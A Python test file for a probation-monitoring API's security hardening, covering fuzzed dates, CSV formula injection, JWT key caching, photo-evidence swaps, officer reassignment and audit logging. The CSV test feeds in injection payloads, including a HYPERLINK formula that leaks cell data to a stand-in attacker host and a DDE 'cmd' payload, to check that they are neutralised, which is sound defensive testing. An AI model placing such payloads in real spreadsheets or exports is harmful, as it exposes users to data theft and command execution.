"""Issue 13 (hardening): each finding of the outside fuzz run and the code review, driven end to end.

docs/security.md ("Findings of the hardening review") maps each finding to its test here.
"""

from __future__ import annotations

import csv
import io
import json
import os
import uuid
from datetime import UTC, datetime, timedelta, timezone
from typing import Any

import jwt
import pytest
import requests
from cryptography.hazmat.primitives.asymmetric import rsa
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from pydantic import BaseModel, ValidationError

from tests.records_support import checkin_body, new_client, visit_body
from tests.support import assert_problem


@pytest.fixture(scope="module")
def api(module_api):
    return module_api


# ----- fuzz: a time field near either end of the calendar was a 500 ---------------------------------------

def _time_fields() -> list[tuple[type[BaseModel], str]]:
    """Every (request model, field) in any route's body, nested models included, that is an RFC 3339 time."""
    import app  # noqa: F401  (registers the routes)
    from chalicelib.http import ROUTES

    found: set[tuple[type[BaseModel], str]] = set()
    seen: set[type[BaseModel]] = set()

    def walk(model: type[BaseModel]) -> None:
        if model in seen:
            return
        seen.add(model)
        for name, info in model.model_fields.items():
            if any(getattr(getattr(m, "func", None), "__name__", "") == "_aware_time" for m in info.metadata):
                found.add((model, name))
            for arg in _types_in(info.annotation):
                if isinstance(arg, type) and issubclass(arg, BaseModel):
                    walk(arg)

    for doc in ROUTES.values():
        if doc.request is not None:
            walk(doc.request)
    return sorted(found, key=lambda mf: (mf[0].__name__, mf[1]))


def _types_in(annotation: Any) -> list[Any]:
    args = getattr(annotation, "__args__", ()) or ()
    return [annotation, *[t for a in args for t in _types_in(a)]]


TIME_FIELDS = _time_fields()


def test_the_time_fields_are_found():
    names = {name for _, name in TIME_FIELDS}
    assert {"occurred_at", "visited_at", "submitted_at"} <= names, names


def _rfc3339(moment: datetime, offset_minutes: int) -> str:
    sign = "+" if offset_minutes >= 0 else "-"
    hours, minutes = divmod(abs(offset_minutes), 60)
    return f"{moment.strftime('%Y-%m-%dT%H:%M:%S')}{sign}{hours:02d}:{minutes:02d}"


@pytest.mark.parametrize(("model", "field"), TIME_FIELDS, ids=[f"{m.__name__}.{f}" for m, f in TIME_FIELDS])
@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck), database=None)
@given(moment=st.datetimes(min_value=datetime(1, 1, 1), max_value=datetime(9999, 12, 31, 23, 59, 59)),
       offset=st.integers(-(24 * 60 - 1), 24 * 60 - 1))
@example(moment=datetime(1, 1, 1), offset=3 * 60 + 4)            # the outside fuzzer's 500
@example(moment=datetime(9999, 12, 31, 23, 59, 59), offset=-1)
@example(moment=datetime(1999, 12, 31, 23, 0), offset=-60)       # 2000-01-01T00:00Z: the first time allowed
@example(moment=datetime(2101, 1, 1, 0, 30), offset=60)          # 2100-12-31T23:30Z: still allowed
def test_property_every_time_field_is_accepted_in_range_or_refused_on_its_field(model, field, moment, offset):
    text = _rfc3339(moment, offset)
    try:
        parsed = model.model_validate({field: text})
    except ValidationError as exc:  # never an OverflowError or anything else: a field error
        on_field = [e for e in exc.errors() if e["loc"] == (field,)]
        utc = moment.replace(tzinfo=timezone(timedelta(minutes=offset)))
        in_range = datetime(1, 1, 2) < moment < datetime(9999, 12, 31) and \
            datetime(2000, 1, 1, tzinfo=UTC) <= utc < datetime(2101, 1, 1, tzinfo=UTC)
        assert bool(on_field) is not in_range, (text, exc.errors())
        return
    raise AssertionError(f"{model.__name__} has required fields besides {field}: {parsed}")  # pragma: no cover


def _progress_body(submitted_at: str) -> dict[str, Any]:
    today = datetime.now(UTC).date()
    return {"stage": "awal", "period_start": str(today - timedelta(days=9)), "period_end": str(today),
            "assessment_summary": "Baik.", "criminogenic_factors": "Lingkungan.", "recommended_program": "Lanjut.",
            "submitted_at": submitted_at}


EXTREMES = ["0001-01-01T00:00:00+03:04", "9999-12-31T23:59:59-00:01", "0001-01-01T00:00:00Z",
            "9999-12-31T23:59:59+14:00", "1970-01-01T00:00:00Z", "2101-01-01T00:00:00Z"]


@pytest.mark.parametrize("value", EXTREMES)
def test_extreme_times_are_422_on_their_field_over_the_api(api, value):
    cid = new_client(api)
    for collection, field, body in (("checkins", "occurred_at", checkin_body(occurred_at=value)),
                                    ("visits", "visited_at", visit_body(visited_at=value)),
                                    ("progress-reports", "submitted_at", _progress_body(value))):
        r = api.put(f"/v1/clients/{cid}/{collection}/{uuid.uuid4()}", "pk.andi", body)
        assert_problem(r, 422, field=field)


@pytest.mark.parametrize(("query", "field"), [("to=0001-01-01", "to"), ("from=0001-01-01&to=2026-01-05", "from"),
                                            ("to=9999-12-31", "to"), ("from=9999-12-30", "from"),
                                            ("from=1999-12-31&to=2000-01-05", "from"),
                                            ("to=", "to"), ("from=&to=2026-01-05", "from")])  # fuzz: an empty date
def test_report_dates_at_the_ends_of_the_calendar_are_422(api, query, field):
    assert_problem(api.get(f"/v1/reports/compliance?{query}", "kasubsi.jaksel"), 422, field=field)


# ----- 6. CSV formula injection ------------------------------------------------------------------------

@pytest.mark.parametrize("officer", ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+cmd|' /C calc'!A0",
                                     "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_csv_report_neutralises_cells_that_start_like_a_formula(api, officer):
    from urllib.parse import quote

    r = api.get(f"/v1/reports/compliance?format=csv&officer={quote(officer)}", "kasubsi.jaksel")
    assert r.status == 200, r
    rows = list(csv.reader(io.StringIO(r.body.decode("utf-8-sig"), newline="")))
    cells = [row[0] for row in rows[1:]]
    assert "'" + officer in cells, cells  # echoed, as text
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_csv_cells_keep_plain_values_and_numbers():
    from chalicelib.services.reports import csv_cell

    assert [csv_cell(v) for v in ("pk.andi", 3, 0.5, None, "TOTAL", "a=b")] == ["pk.andi", 3, 0.5, "", "TOTAL", "a=b"]
    assert csv_cell("=1") == "'=1" and csv_cell("-1") == "'-1"


# ----- 5. JWKS: unknown key ids are negatively cached ---------------------------------------------------

def _foreign_token(api: Any, kid: str) -> str:
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    now = int(datetime.now(UTC).timestamp())
    claims = {"iss": f"https://cognito-idp.ap-southeast-3.amazonaws.com/{api.resources.user_pool_id}",
              "sub": str(uuid.uuid4()), "aud": api.resources.user_pool_client_id, "token_use": "id",
              "iat": now, "exp": now + 3600, "cognito:groups": ["coordinator"], "custom:bapas_id": "jaksel"}
    return jwt.encode(claims, key, algorithm="RS256", headers={"kid": kid})


def test_unknown_key_ids_do_not_refetch_the_jwks_per_request(api, monkeypatch):
    from chalicelib import auth

    clock = [1_000_000.0]
    monkeypatch.setattr(auth.time, "monotonic", lambda: clock[0])
    fetched: list[str] = []
    real_get = requests.get  # chalicelib.auth imports requests on its first fetch: patch the module itself
    monkeypatch.setattr(requests, "get", lambda url, **kw: fetched.append(url) or real_get(url, **kw))
    auth.JWKS.clear()
    before = auth.JWKS.fetches
    good = api.token("pk.andi")
    assert api.get("/v1/me", token=good).status == 200
    assert len(fetched) == 1  # the first request loads the keys
    for i in range(30):  # junk tokens, each with a new kid: answered from the cache
        assert_problem(api.get("/v1/me", token=_foreign_token(api, f"junk-{i}")), 401)
    assert len(fetched) == 1, fetched
    assert api.get("/v1/me", token=good).status == 200
    clock[0] += 301  # after five minutes an unknown kid may refetch once (a rotated pool key is picked up)
    for i in range(10):
        assert_problem(api.get("/v1/me", token=_foreign_token(api, f"later-{i}")), 401)
    assert len(fetched) == 2, fetched
    assert auth.JWKS.fetches - before == 2
    assert api.get("/v1/me", token=good).status == 200 and len(fetched) == 2


def test_a_failed_jwks_fetch_is_not_retried_on_every_request(api, monkeypatch):
    from chalicelib import auth

    clock = [2_000_000.0]
    monkeypatch.setattr(auth.time, "monotonic", lambda: clock[0])
    calls: list[str] = []

    def down(url: str, **kw: Any) -> Any:
        calls.append(url)
        raise requests.ConnectionError("down")

    monkeypatch.setattr(requests, "get", down)
    auth.JWKS.clear()
    token = api.token("pk.andi")
    for _ in range(5):
        assert_problem(api.get("/v1/me", token=token), 401)
    assert len(calls) == 1
    monkeypatch.undo()
    auth.JWKS.clear()
    assert api.get("/v1/me", token=token).status == 200


def test_json_of_a_problem_for_an_unknown_kid_names_no_key(api):
    body = json.loads(api.get("/v1/me", token=_foreign_token(api, "nope")).body)
    assert body["status"] == 401 and "nope" not in body["detail"]


# ----- 5. The template puts a WAF rate-based rule in front of the API -----------------------------------

def test_the_api_stage_sits_behind_a_waf_rate_based_rule():
    from infra import template as tpl

    r = tpl.load(tpl.TEMPLATE.read_text())["Resources"]
    acl = r["ApiFirewall"]["Properties"]
    assert acl["Scope"] == "REGIONAL" and acl["DefaultAction"] == {"Allow": {}}
    rules = {rule["Name"]: rule for rule in acl["Rules"]}
    rate = rules["rate-per-ip"]
    assert rate["Action"] == {"Block": {}}
    assert rate["Statement"]["RateBasedStatement"] == {"Limit": tpl.WAF_RATE_LIMIT_PER_IP, "AggregateKeyType": "IP"}
    assert rules["api-needs-a-bearer-jwt"]["Action"] == {"Block": {}}
    association = r["ApiFirewallAssociation"]["Properties"]
    assert association["WebACLArn"] == {"Fn::GetAtt": ["ApiFirewall", "Arn"]}
    assert {"Ref": "RestAPI"} in association["ResourceArn"]["Fn::Join"][1]


# ----- 3. Evidence swap: an upload is single-use, the kept copy is the checked version and write-once -------

def _bytes_of(key: str) -> bytes:
    from chalicelib.adapters import aws
    from chalicelib.config import settings

    return aws.client("s3").get_object(Bucket=settings().bucket, Key=key)["Body"].read()


def test_an_upload_referenced_by_a_record_cannot_be_referenced_again_nor_swapped(api):
    from tests.records_support import HOME, audits_of, jpeg, put_photo, records_of, upload_keys

    cid = new_client(api)
    [up] = upload_keys(api, "pk.andi", cid, "image/jpeg")
    at_home = jpeg(HOME[0], HOME[1], datetime.now(UTC) - timedelta(minutes=30))
    put_photo(up["key"], at_home)
    first_id = str(uuid.uuid4())
    body = visit_body(photos=[up["key"]])
    first = api.put(f"/v1/clients/{cid}/visits/{first_id}", "pk.andi", body)
    assert first.status == 201, first
    final = first.json["stored_photos"][0]
    assert first.json["photo_evidence"][0]["flags"] == []
    # The presigned POST is still valid: another photo (taken elsewhere, another day) goes to the same key ...
    put_photo(up["key"], jpeg(-6.2, 106.8, datetime.now(UTC) - timedelta(days=3)))
    # ... and a second record referencing it is refused, writing nothing.
    before = len(records_of(cid))
    second = api.put(f"/v1/clients/{cid}/visits/{uuid.uuid4()}", "pk.andi", visit_body(photos=[up["key"]]))
    assert_problem(second, 409, field="photos[0]")
    checkin = api.put(f"/v1/clients/{cid}/checkins/{uuid.uuid4()}", "pk.andi", checkin_body(photos=[up["key"]]))
    assert_problem(checkin, 409, field="photos[0]")
    assert len(records_of(cid)) == before
    assert _bytes_of(final) == at_home  # the kept photo is the one whose EXIF was read
    replay = api.put(f"/v1/clients/{cid}/visits/{first_id}", "pk.andi", body)
    assert replay.status == 200 and replay.body == first.body and _bytes_of(final) == at_home
    [claim] = audits_of(f"upload#{up['key']}")
    assert (claim.action, claim.target, claim.actor) == ("photo.claim", f"visit#{first_id}", "pk.andi")


def test_a_copy_interrupted_then_finished_by_the_replay_keeps_the_checked_version(api, monkeypatch):
    from botocore.exceptions import ClientError

    from chalicelib.adapters import storage
    from tests.records_support import HOME, jpeg, put_photo, upload_keys

    cid = new_client(api)
    [up] = upload_keys(api, "pk.andi", cid, "image/jpeg")
    checked = jpeg(HOME[0], HOME[1], datetime.now(UTC) - timedelta(minutes=20))
    put_photo(up["key"], checked)
    rid, body = str(uuid.uuid4()), visit_body(photos=[up["key"]])

    def s3_down(*_a: Any, **_k: Any) -> None:
        raise ClientError({"Error": {"Code": "SlowDown", "Message": "slow down"}}, "CopyObject")

    with monkeypatch.context() as m:
        m.setattr(storage, "keep", s3_down)
        assert_problem(api.put(f"/v1/clients/{cid}/visits/{rid}", "pk.andi", body), 503)
    put_photo(up["key"], b"\xff\xd8\xff" + b"swapped" * 100)  # uploaded again before the app's retry
    replay = api.put(f"/v1/clients/{cid}/visits/{rid}", "pk.andi", body)
    assert replay.status == 200, replay
    assert _bytes_of(replay.json["stored_photos"][0]) == checked


def test_the_copy_names_the_checked_version_its_etag_and_refuses_to_overwrite(api):
    """What `keep` asks S3 for. (moto ignores `If-None-Match` and `x-amz-copy-source-if-match` on CopyObject, so
    the two tests above prove write-once through the claim and the pinned version; this one proves the request
    AWS receives carries both conditions.)"""
    from chalicelib.adapters import aws, storage
    from tests.records_support import jpeg, put_photo, upload_keys

    cid = new_client(api)
    [up] = upload_keys(api, "pk.andi", cid, "image/jpeg")
    put_photo(up["key"], jpeg())
    checked = storage.head(up["key"])
    assert checked.version_id and checked.etag
    sent: list[Any] = []
    s3 = aws.client("s3")
    s3.meta.events.register("before-send.s3.CopyObject", lambda request, **_: sent.append(request))
    try:
        final = storage.parse_pending_key(up["key"]).final_key
        storage.keep(up["key"], final, checked.version_id, checked.etag)
        put_photo(up["key"], b"\xff\xd8\xff other")
        assert storage.ensure_kept(up["key"], final, checked.version_id, checked.etag)  # kept: no second copy
    finally:
        s3.meta.events.unregister("before-send.s3.CopyObject")
    [request] = sent
    assert request.headers["If-None-Match"] == b"*" or request.headers["If-None-Match"] == "*"
    assert request.headers["x-amz-copy-source-if-match"] in (checked.etag, checked.etag.encode())
    source = request.headers["x-amz-copy-source"]
    assert f"versionId={checked.version_id}" in (source.decode() if isinstance(source, bytes) else source)
    assert _bytes_of(final) == jpeg()


# ----- 4. Reassignment: open work moves with the client, access follows the client's current officer -------

def test_reassignment_moves_open_work_and_access_follows_the_current_officer(api):
    from chalicelib.adapters.tables import EscalationModel, TaskModel
    from tests.escalation_support import at_wib, put_village_contacts, run_and_drain, today_wib, unreachable_client
    from tests.records_support import audits_of

    put_village_contacts(api)
    cid = unreachable_client(api)
    run_and_drain(at_wib(today_wib()))
    [esc] = [e for e in EscalationModel.client_index.query(cid) if e.state == "open"]
    task = TaskModel.get(esc.task_id)
    assert (esc.officer, task.officer) == ("pk.andi", "pk.andi")
    assert api.get(f"/v1/escalations/{esc.escalation_id}", "pk.andi").status == 200
    assert_problem(api.get(f"/v1/escalations/{esc.escalation_id}", "pk.budi"), 403)

    client = api.get(f"/v1/clients/{cid}", "kasubsi.jaksel")
    r = api.patch(f"/v1/clients/{cid}", "kasubsi.jaksel", {"officer": "pk.budi"},
                  headers={"If-Match": client.headers["etag"]})
    assert r.status == 200 and r.json["officer"] == "pk.budi", r

    # Moved in the PATCH's transaction, each move audited (fields named, no values).
    esc_now, task_now = EscalationModel.get(esc.escalation_id), TaskModel.get(esc.task_id)
    assert (esc_now.officer, esc_now.officer_key, esc_now.state) == ("pk.budi", "jaksel#pk.budi", "open")
    assert (task_now.officer, task_now.officer_key, task_now.state) == ("pk.budi", "jaksel#pk.budi", "open")
    assert [a.fields for a in audits_of(f"escalation#{esc.escalation_id}") if a.action == "escalation.reassign"] == [
        ["officer"]]
    assert [a.actor for a in audits_of(f"task#{esc.task_id}") if a.action == "task.reassign"] == ["kasubsi.jaksel"]

    # The new PK sees and reads them; the previous one does not any more.
    assert esc.escalation_id in [e["id"] for e in api.get("/v1/escalations", "pk.budi").json["items"]]
    assert esc.task_id in [t["id"] for t in api.get("/v1/tasks", "pk.budi").json["items"]]
    assert api.get(f"/v1/escalations/{esc.escalation_id}", "pk.budi").status == 200
    assert esc.escalation_id not in [e["id"] for e in api.get("/v1/escalations", "pk.andi").json["items"]]
    assert esc.task_id not in [t["id"] for t in api.get("/v1/tasks", "pk.andi").json["items"]]
    assert_problem(api.get(f"/v1/escalations/{esc.escalation_id}", "pk.andi"), 403)

    # History stays with who handled it, but a PK reads it only while the client is theirs.
    resolved = api.post(f"/v1/escalations/{esc.escalation_id}/resolve", "kasubsi.jaksel",
                        {"resolution": "contact_restored"})
    assert resolved.status == 200, resolved
    back = api.get(f"/v1/clients/{cid}", "kasubsi.jaksel")
    assert api.patch(f"/v1/clients/{cid}", "kasubsi.jaksel", {"officer": "pk.andi"},
                     headers={"If-Match": back.headers["etag"]}).status == 200
    assert EscalationModel.get(esc.escalation_id).officer == "pk.budi"  # resolved: not moved
    assert esc.escalation_id not in [e["id"] for e in api.get("/v1/escalations", "pk.budi").json["items"]]
    assert_problem(api.get(f"/v1/escalations/{esc.escalation_id}", "pk.budi"), 403)
    assert api.get(f"/v1/escalations/{esc.escalation_id}", "pk.andi").status == 200


def test_a_reassignment_racing_a_new_escalation_is_refused_and_changes_nothing(api, monkeypatch):
    from chalicelib.adapters.tables import ClientModel
    from chalicelib.services import reassignment
    from tests.escalation_support import unreachable_client

    cid = unreachable_client(api)
    client = api.get(f"/v1/clients/{cid}", "kasubsi.jaksel")
    real = reassignment.open_work

    def escalation_opens_meanwhile(client_id: str, open_escalation_id: str | None) -> Any:
        work = real(client_id, open_escalation_id)
        ClientModel(client_id).update(actions=[ClientModel.open_escalation_id.set(str(uuid.uuid4()))])
        return work

    monkeypatch.setattr(reassignment, "open_work", escalation_opens_meanwhile)
    r = api.patch(f"/v1/clients/{cid}", "kasubsi.jaksel", {"officer": "pk.budi"},
                  headers={"If-Match": client.headers["etag"]})
    assert_problem(r, 412)
    assert ClientModel.get(cid).officer == "pk.andi"


# ----- 1. Reads that leave no trace ------------------------------------------------------------------------

PRIVATE_FIELDS = {"phones", "address", "offence", "notes"}


def test_lists_answer_summaries_and_the_full_record_only_by_id(api):
    from chalicelib.schemas.clients import ClientList, ClientSummaryOut
    from chalicelib.services.clients import SUMMARY_FIELDS

    cid = new_client(api, offence="Pasal 362 KUHP", notes="Catatan rahasia")
    for user, query in (("pk.andi", ""), ("kasubsi.jaksel", ""), ("admin.pusat", "&bapas_id=jaksel")):
        listed = api.get(f"/v1/clients?limit=200{query}", user).json
        ClientList.model_validate(listed)
        [mine] = [c for c in listed["items"] if c["id"] == cid]
        assert set(mine) == set(SUMMARY_FIELDS) | {"village_code", "village_name"} == set(ClientSummaryOut.model_fields)
        assert not PRIVATE_FIELDS & set(mine)
        assert "+62" not in json.dumps(listed) and "Kenanga" not in json.dumps(listed)  # no number, no street
        assert (mine["name"], mine["village_code"]) == ("Klien Uji", "31.74.09.1001")
    full = api.get(f"/v1/clients/{cid}", "kasubsi.jaksel").json
    assert set(full) >= PRIVATE_FIELDS and full["offence"] == "Pasal 362 KUHP"


def test_every_list_read_is_audited_with_the_ids_answered_and_no_values(api):
    from tests.records_support import audits_of

    new_client(api)
    before = len(audits_of("client-list#jaksel"))
    listed = api.get("/v1/clients?officer=pk.andi&state=compliant&limit=3", "kasubsi.jaksel").json
    api.get("/v1/clients", "pk.andi")
    entries = sorted(audits_of("client-list#jaksel"), key=lambda a: a.at_id)[before:]
    assert [(a.action, a.actor, a.role) for a in entries] == [("client.list", "kasubsi.jaksel", "coordinator"),
                                                              ("client.list", "pk.andi", "pk")]
    assert entries[0].fields == ["limit", "officer", "state"]  # filter names, not their values
    assert entries[0].subjects == ([c["id"] for c in listed["items"]] or None)
    assert "pk.andi" not in json.dumps(entries[0].fields)


def test_a_list_is_refused_when_its_audit_entry_cannot_be_written(api, monkeypatch):
    from botocore.exceptions import ClientError

    from chalicelib.adapters.tables import AuditModel

    def throttled(self: Any, *a: Any, **k: Any) -> None:
        raise ClientError({"Error": {"Code": "ProvisionedThroughputExceededException", "Message": "slow"}}, "PutItem")

    monkeypatch.setattr(AuditModel, "save", throttled)
    r = api.get("/v1/clients", "kasubsi.jaksel")
    assert_problem(r, 503)
    assert "items" not in r.json


def test_a_patch_that_changes_nothing_is_audited_and_writes_no_version(api):
    from tests.records_support import audits_of

    cid = new_client(api)
    current = api.get(f"/v1/clients/{cid}", "kasubsi.jaksel")
    history = len(audits_of(f"client#{cid}"))
    reads = len([a for a in audits_of(f"client-read#{cid}") if a.action == "client.patch_unchanged"])
    r = api.patch(f"/v1/clients/{cid}", "kasubsi.jaksel", {"name": "Klien Uji", "officer": "pk.andi"},
                  headers={"If-Match": current.headers["etag"]})
    assert r.status == 200 and r.json["version"] == current.json["version"], r
    assert len(audits_of(f"client#{cid}")) == history  # no change recorded: nothing changed
    unchanged = [a for a in audits_of(f"client-read#{cid}") if a.action == "client.patch_unchanged"]
    assert len(unchanged) == reads + 1 and unchanged[-1].actor == "kasubsi.jaksel"


def test_the_request_log_carries_the_callers_sub(api, caplog):
    import logging

    caplog.set_level(logging.INFO)
    me = api.get("/v1/me", "pk.andi").json
    [line] = [r for r in caplog.records if getattr(r, "route", None) == "/v1/me"]
    assert (line.sub, line.role) == (me["sub"], "pk")


# ----- fuzz: GET /v1/tasks -------------------------------------------------------------------------------------

def test_a_task_list_page_costs_the_same_requests_whatever_the_table_holds(api):
    """The outside fuzzer reported a `GET /v1/tasks` as an error (schemathesis' 10 s request timeout) rather than
    a response. The list reads one index Query per state phase and one BatchGetItem (a PK's current clients): a
    page costs at most three requests, whether the Bapas has 3 tasks or 123, and paging walks every task once."""
    from chalicelib.adapters.tables import TaskModel
    from tests.escalation_support import dynamodb_calls

    cid = new_client(api)

    def add(n: int, state: str) -> None:
        for i in range(n):
            tid = str(uuid.uuid4())
            due = f"2026-{1 + i % 12:02d}-{1 + i % 28:02d}"
            TaskModel(tid, kind="home_visit", client_id=cid, bapas_id="jaksel", officer="pk.andi",
                      officer_key="jaksel#pk.andi", due_date=due, state=state, state_due=f"{state}#{due}#{tid}",
                      created_at="2026-01-01T00:00:00+00:00", version=1).save()

    def cost(user: str, query: str) -> tuple[int, dict[str, Any]]:
        with dynamodb_calls() as calls:
            body = api.get(f"/v1/tasks?{query}", user).json
        return sum(calls.values()), body

    add(2, "open")
    add(1, "done")
    small = {user: cost(user, "limit=5")[0] for user in ("pk.andi", "kasubsi.jaksel")}
    add(60, "open")
    add(60, "done")
    for user in ("pk.andi", "kasubsi.jaksel"):
        n, body = cost(user, "limit=5")
        assert n <= 3 and n <= small[user] + 1, (user, n, small)
        listed, cursor, pages = list(body["items"]), body["next_cursor"], 1
        while cursor:
            n, body = cost(user, f"limit=200&cursor={cursor}")
            assert n <= 3, (user, n)
            listed += body["items"]
            cursor, pages = body["next_cursor"], pages + 1
        seen = [t["id"] for t in listed if t["client_id"] == cid]  # other tests add tasks to the Bapas too
        mine = [t.task_id for t in TaskModel.scan() if t.client_id == cid]
        assert sorted(seen) == sorted(mine) and len(seen) == 123 and pages <= 3, (user, len(seen), pages)
        assert len({t["id"] for t in listed}) == len(listed)  # every task once


def test_a_deployed_function_ignores_aws_endpoint_url(monkeypatch):
    """Finding 9: without the local-only flag, AWS_ENDPOINT_URL neither redirects the JWKS fetch nor boto3."""
    from chalicelib import config

    monkeypatch.setenv("AWS_ENDPOINT_URL", "http://127.0.0.1:9/evil")
    # Set (not deleted) first, so that undoing the patch removes what settings() writes into os.environ: a flag left
    # behind would make every later boto3 client in this process ignore the emulator.
    monkeypatch.setenv("AWS_IGNORE_CONFIGURED_ENDPOINT_URLS", "false")
    monkeypatch.setenv("PANTAU_USER_POOL_ID", "ap-southeast-3_pool")
    monkeypatch.delenv(config.LOCAL_FLAG)
    config.reset()
    try:
        s = config.settings()
        assert s.endpoint_url is None
        assert s.jwks_url == "https://cognito-idp.ap-southeast-3.amazonaws.com/ap-southeast-3_pool/.well-known/jwks.json"
        assert os.environ["AWS_IGNORE_CONFIGURED_ENDPOINT_URLS"] == "true"
        monkeypatch.setenv(config.LOCAL_FLAG, "1")  # the local stack and the tests say so explicitly
        config.reset()
        assert config.settings().jwks_url.startswith("http://127.0.0.1:9/evil/")
    finally:
        monkeypatch.undo()
        config.reset()
    assert "AWS_IGNORE_CONFIGURED_ENDPOINT_URLS" not in os.environ


def test_json_answers_are_not_cached_and_the_dashboard_connects_only_where_it_logs_in(api):
    """Finding 9: `Cache-Control: no-store` on API answers; the dashboard's CSP names its Cognito endpoint only;
    problem types are names (URNs), not links to a domain the project does not own."""
    r = api.get("/v1/me", "kasubsi.jaksel")
    assert r.status == 200 and r.headers["cache-control"] == "no-store"
    r = api.get("/v1/clients/00000000-0000-4000-8000-000000000000", "kasubsi.jaksel")
    assert r.status == 404 and r.headers["cache-control"] == "no-store"
    assert r.json["type"] == "urn:pantau:problem:not_found"
    page = api.get("/dashboard", None)
    csp = page.headers["content-security-policy"]
    assert "connect-src *" not in csp and "connect-src 'self' " in csp
